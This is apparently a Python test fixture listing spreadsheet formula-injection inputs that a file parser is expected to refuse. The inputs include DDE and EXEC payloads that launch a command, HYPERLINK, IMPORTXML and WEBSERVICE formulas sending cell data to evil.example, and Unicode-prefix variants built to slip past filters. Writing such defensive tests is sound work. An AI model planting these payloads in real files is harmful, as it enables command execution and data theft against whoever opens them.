"""Cells that a spreadsheet runs when it opens the file."""

from torture.hostile import Hostile, with_cell
from torture.inputs.text_places import PLACES, spread

STARTS = {
    "a sum": "=1+1", "a link": "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "a command": "=cmd|' /C calc'!A0",
    "a command after a number": "-2+3+cmd|' /C calc'!A0", "plus": "+1+1", "plus and words": "+ one more",
    "minus": "-1+1|cmd",
    "minus and words": "- a list item", "at": "@SUM(1+1)*cmd|' /C calc'!A0", "a handle": "@SemiAnalysis says",
    "full width =": "＝1+1",
    "full width +": "＋1", "full width -": "－1＋1", "full width @": "＠SUM(1)", "brackets of a matrix": "={1,2}",
    "a quote before": "\"=1+1\"", "an apostrophe before": "'=1+1", "a curly quote before": "“=1+1”",
    "a minus sign": "−1+2 of",
    "small plus": "﹢1+1", "a web service": "=WEBSERVICE(\"https://evil.example\")",
    "a picture": "=IMAGE(\"https://evil.example/i\")",
    "an import": "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", "a macro": "=EXEC(\"calc\")",
    "DDE": "=DDE(\"a\";\"b\";\"c\")",
    "a tab before": "\t=1+1", "a return before": "\x0b=1+1", "no-break before": "\u00a0=1+1",
    "no width before": "\u200b=1+1",
    "a mark before": "\ufeff=1+1", "a lambda": "=LET(x,1,x)", "an old one": "@A1", "superscript": "⁼1",
}  # fmt: skip
WORDS = r"formula|holds U\+"

INPUTS = [
    Hostile(f"formula: {name}", "formulae", with_cell(*place, text), "refused", place.file, WORDS, most=2)
    for name, text, place in spread(STARTS, PLACES)
]
